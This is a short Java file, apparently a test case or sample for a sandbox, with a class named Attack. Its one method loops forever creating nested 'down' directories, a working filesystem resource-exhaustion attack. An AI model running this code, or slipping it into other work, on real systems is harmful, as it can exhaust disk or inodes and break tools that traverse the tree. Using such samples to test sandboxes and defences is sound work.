import java.nio.file.*;

class Attack {
  static void attack() throws Exception {
    for (Path path = Path.of("down");; path = path.resolve("down")) Files.createDirectory(path);
  }
}
